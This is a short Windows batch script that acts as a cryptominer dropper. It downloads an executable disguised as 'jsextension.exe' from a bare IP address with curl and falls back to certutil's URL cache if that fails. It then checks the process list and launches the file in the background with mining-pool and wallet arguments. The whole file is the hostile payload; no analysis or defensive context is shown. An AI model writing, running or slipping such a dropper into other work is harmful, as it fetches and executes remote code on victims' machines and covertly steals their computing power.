@echo off
curl http://198.51.100.155/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe ( certutil.exe -urlcache -f http://198.51.100.155/download/jsextension.exe jsextension.exe )
tasklist /fi "imagename eq jsextension.exe" | find ":" > NUL
if errorlevel 0 start jsextension.exe -k -o pool.example:443 -u 49placeholder --background
